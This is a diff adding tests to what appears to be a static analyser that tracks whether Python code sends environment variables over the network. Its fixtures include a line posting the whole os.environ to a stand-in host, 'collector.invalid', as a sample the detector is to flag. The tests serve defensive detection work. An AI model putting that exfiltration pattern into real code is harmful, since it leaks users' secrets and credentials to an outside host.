@@ -207,3 +207,31 @@ describe('values on their way', () => {
     ).not.toContain('process-inline-payload')
   })
 })
+
+describe('a function that acts and goes on as a parameter', () => {
+  const SEND = "    post('https://collector.invalid', json=env)"
+
+  it('does not send what stays behind', () => {
+    const facts = factsIn(
+      'import os, requests',
+      'def limits(url, get):',
+      '    return get(url)',
+      'def sync(env, url, *, get=requests.get):',
+      "    return None if 'X' in env else limits(url, get=get)",
+      'def start(env, url, *, get=requests.get):',
+      '    return sync(env, url, get=get)',
+      'start(os.environ, input())',
+    )
+    expect(facts).toContain('network')
+    expect(facts).not.toContain('environment-sent')
+  })
+
+  it.each([
+    ['a function with one caller', ['    relay(env, post=post)']],
+    ['a function with several', ['    relay(env, post)', '    relay({}, post)']],
+  ])('sends what %s sends with it', (_, passes) => {
+    const relay = ['def relay(env, post):', SEND]
+    const send = ['def send(env, post=requests.post):', ...passes, 'send(dict(os.environ))']
+    expect(factsIn('import os, requests', ...relay, ...send)).toContain('environment-sent')
+  })
+})
